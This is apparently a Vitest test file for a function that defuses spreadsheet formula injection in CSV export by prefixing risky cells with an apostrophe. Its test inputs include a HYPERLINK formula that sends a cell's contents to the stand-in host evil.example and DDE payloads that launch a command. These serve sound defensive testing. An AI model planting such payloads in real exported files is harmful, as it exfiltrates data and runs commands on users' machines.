import { expect, test } from "vitest";
import { harmlessCell, harmlessRow } from "./spreadsheet.js";

test.each([
  "=1+1",
  '=HYPERLINK("http://evil.example/?"&A1)',
  "@SUM(A1)",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "＝1+1",
  "-1\n=1+1",
])("%j is made a text", (text) => expect(harmlessCell(text)).toBe(`'${text}`));

test.each(["", "Ada Lee", "-5.2", "-1e", "+41 79 123 45 67", "+1 (802) 555-0100", "a=b", "2026-01-31", "-"])(
  "%j stays as it is",
  (text) => expect(harmlessCell(text)).toBe(text === "-1e" ? "'-1e" : text),
);

test("a row quotes what needs quotes, and leaves numbers alone", () => {
  expect(harmlessRow(["a,b", 'say "=hi"', "=1", -3, null, "two\nlines"])).toBe(
    `"a,b","say ""=hi""",'=1,-3,,"two\nlines"\r\n`,
  );
});
